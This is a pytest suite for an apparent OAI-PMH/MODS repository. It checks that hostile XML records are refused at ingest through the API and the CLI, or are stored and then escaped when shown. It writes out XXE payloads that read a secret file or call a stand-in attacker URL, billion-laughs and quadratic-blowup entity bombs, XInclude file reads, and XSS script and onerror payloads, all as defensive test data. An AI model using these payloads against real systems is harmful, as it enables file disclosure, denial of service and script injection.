"""Hostile records at ingest, through the write API and the CLI: refused with a clear message and nothing
stored, or stored and always escaped where shown (OAI-PMH responses, the HTML landing and home pages).

Nothing may reach outside: a loopback HTTP server stands in for an attacker's host and must see no request,
and a secret file must never appear in what is stored or served.
"""
from __future__ import annotations

import time

import pytest

from tests.conftest import Attacker
from lxml import etree

from provider.cli import cli
from tests.reliability.conftest import AUTH, MODS_NS, NS, mods

TIME_BOUND = 3.0
# libxml2 stops entity expansion itself (its amplification limit) before the DOCTYPE check runs.
AMPLIFIED = ("DOCTYPE", "amplification", "entity")
HEAD = f'<mods xmlns="{MODS_NS}" version="3.8">'
TAIL = "<typeOfResource>text</typeOfResource><recordInfo><recordIdentifier>evil</recordIdentifier></recordInfo></mods>"


def _titled(title_xml: str, doctype: str = "") -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}{HEAD}<titleInfo><title>{title_xml}</title></titleInfo>{TAIL}'.encode()


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-7f3a")
    return path


def hostile_bodies(attacker: Attacker, secret) -> dict[str, tuple[bytes, tuple[str, ...]]]:
    """name -> (body, what the refusal message says: one of these)."""
    laughs = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    deep = "<a>" * 10_000 + "</a>" * 10_000
    return {
        "xxe-file": (_titled("&x;", f'<!DOCTYPE mods [<!ENTITY x SYSTEM "file://{secret}">]>'), ("DOCTYPE",)),
        "xxe-network": (_titled("&x;", f'<!DOCTYPE mods [<!ENTITY x SYSTEM "{attacker.url}/xxe">]>'), ("DOCTYPE",)),
        "external-dtd": (_titled("t", f'<!DOCTYPE mods SYSTEM "{attacker.url}/evil.dtd">'), ("DOCTYPE",)),
        "parameter-entity": (_titled("t", f'<!DOCTYPE mods [<!ENTITY % p SYSTEM "{attacker.url}/p.dtd"> %p;]>'), ("DOCTYPE", "entit")),
        "billion-laughs": (_titled("&l9;", f"<!DOCTYPE mods [{laughs}]>"), AMPLIFIED),
        "quadratic-blowup": (_titled("&a;" * 20_000, f'<!DOCTYPE mods [<!ENTITY a "{"a" * 50_000}">]>'), AMPLIFIED),
        "xinclude-in-title": (_titled(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" '
                                      'parse="text"/>'), ("not valid",)),
        "deep-nesting": (f"{HEAD}<titleInfo><title>t</title></titleInfo><extension>{deep}</extension>{TAIL}".encode(),
                         ("not well-formed",)),
        "invalid-utf8": (_titled("caf\xe9").replace("caf\xe9".encode(), b"caf\xe9\xff\xfe"), ("not well-formed",)),
        "forbidden-character-reference": (_titled("a&#x1;b"), ("not well-formed",)),
        "forbidden-raw-character": (_titled("a\x01b"), ("not well-formed",)),
        "noncharacter-reference": (_titled("a&#xFFFE;b"), ("not well-formed",)),
        "not-xml": (b"\x89PNG\r\n\x1a\n" + b"\x00" * 100, ("not well-formed", "empty")),
        "empty": (b"", ("empty",)),
        "wrong-root": (b"<html><body><script>alert(1)</script></body></html>", ("not an input this repository reads",)),
    }


CASES = [
    "xxe-file", "xxe-network", "external-dtd", "parameter-entity", "billion-laughs", "quadratic-blowup",
    "xinclude-in-title", "deep-nesting", "invalid-utf8", "forbidden-character-reference",
    "forbidden-raw-character", "noncharacter-reference", "not-xml", "empty", "wrong-root"]


def _assert_nothing_stored(app):
    store = app.extensions["store"]
    assert store.record_count() == 0
    assert store.header("oai:test.example.org:evil") is None
    assert store.earliest_datestamp() is None, "not even a tombstone or a half-written row"


@pytest.mark.parametrize("case", CASES)
def test_hostile_record_is_refused_over_http_and_by_the_cli_and_nothing_is_stored(sqlite_api_app, attacker, secret,
                                                                                  tmp_path, case):
    """The refusal comes from parsing, before any store is touched, so SQLite stands for both stores here."""
    body, expected = hostile_bodies(attacker, secret)[case]
    started = time.perf_counter()
    response = sqlite_api_app.test_client().put("/api/records/evil", data=body, headers=AUTH,
                                                content_type="application/xml")
    assert time.perf_counter() - started < TIME_BOUND
    assert response.status_code == 400, response.data[:500]
    message = response.json["messages"][0]
    assert any(e in message for e in expected), message
    assert "TOP-SECRET" not in message and "pwned" not in message

    path = tmp_path / f"{case}.xml"
    path.write_bytes(body)
    started = time.perf_counter()
    result = sqlite_api_app.test_cli_runner().invoke(cli, ["ingest", str(path)])
    assert time.perf_counter() - started < TIME_BOUND
    assert result.exit_code == 1
    assert f"refused {path}" in result.output and any(e in result.output for e in expected), result.output
    assert "Traceback" not in result.output and "TOP-SECRET" not in result.output

    assert attacker.hits == []
    _assert_nothing_stored(sqlite_api_app)


def test_a_batch_with_one_hostile_record_stores_nothing(api, api_app, attacker, secret):
    body = (f'<!DOCTYPE modsCollection [<!ENTITY x SYSTEM "file://{secret}">]>'
            f'<modsCollection xmlns="{MODS_NS}">' + mods("fine-1").decode().split("?>", 1)[1] +
            f'{HEAD}<titleInfo><title>&x;</title></titleInfo>{TAIL}</modsCollection>').encode()
    response = api.post("/api/records", data=body, headers=AUTH, content_type="application/xml")
    assert response.status_code == 400
    assert api_app.extensions["store"].record_count() == 0


def test_huge_body_is_413_over_http(sqlite_api_app):
    body = _titled("x" * (10 * 1024 * 1024 + 1))
    response = sqlite_api_app.test_client().put("/api/records/evil", data=body, headers=AUTH,
                                                content_type="application/xml")
    assert response.status_code == 413
    _assert_nothing_stored(sqlite_api_app)


def test_huge_file_is_refused_by_the_cli(sqlite_api_app, tmp_path):
    path = tmp_path / "huge.xml"
    path.write_bytes(_titled("x" * (10 * 1024 * 1024 + 1)))
    result = sqlite_api_app.test_cli_runner().invoke(cli, ["ingest", str(path)])
    assert result.exit_code == 1 and "larger than" in result.output
    _assert_nothing_stored(sqlite_api_app)


def test_xinclude_where_mods_allows_any_markup_is_stored_but_never_expanded(api, api_app, secret):
    include = etree.Element("{http://www.w3.org/2001/XInclude}include", href=f"file://{secret}", parse="text")
    response = api.put("/api/records/xi", data=mods("xi", extension=include), headers=AUTH,
                       content_type="application/xml")
    assert response.status_code == 201, "MODS extension takes any markup: the include is kept as inert data"
    for prefix in ("mods", "oai_dc"):
        assert b"TOP-SECRET" not in api_app.extensions["store"].get("oai:test.example.org:xi", prefix).metadata
        served = api.get("/oai", query_string={"verb": "GetRecord", "identifier": "oai:test.example.org:xi",
                                               "metadataPrefix": prefix}).data
        assert b"TOP-SECRET" not in served
    assert b"XInclude" in api_app.extensions["store"].get("oai:test.example.org:xi", "mods").metadata


SCRIPT_TITLE = '<script>alert("x")</script><img src=x onerror=alert(1)> & "quotes" \'too\''


def _html_routes(app) -> dict[str, str]:
    """The pages that show a record's title, as far as this app has them (the pages may come later)."""
    rules = {rule.rule for rule in app.url_map.iter_rules() if "GET" in rule.methods}
    routes = {}
    if "/records/<path:local_id>" in rules:
        routes["landing page"] = "/records/scripted"
    if "/" in rules:
        routes["home page search"] = "/?q=alert"
    return routes


def test_script_in_a_title_is_stored_and_always_escaped(api, api_app):
    body = mods("scripted", SCRIPT_TITLE)
    assert api.put("/api/records/scripted", data=body, headers=AUTH, content_type="application/xml").status_code == 201
    for prefix in ("mods", "oai_dc"):
        document = api.oai(verb="GetRecord", identifier="oai:test.example.org:scripted", metadataPrefix=prefix)
        titles = [t.text for t in document.iter("{*}title")]
        assert SCRIPT_TITLE in titles, "the text survives, as text"
        assert not [e for e in document.iter() if isinstance(e.tag, str) and etree.QName(e).localname in ("script", "img")]
    routes = _html_routes(api_app)
    if not routes:
        pytest.skip("this app has no HTML page showing records yet")
    for name, url in routes.items():
        page = api.get(url, headers={"Accept": "text/html"})
        assert page.status_code == 200, name
        html = page.get_data(as_text=True)
        assert "<script>alert" not in html and "<img src=x" not in html, name
        assert "&lt;script&gt;alert(" in html, f"{name} shows the title, escaped"
        assert "script-src 'self'" in page.headers["Content-Security-Policy"] or \
            "script-src 'none'" in page.headers["Content-Security-Policy"], name
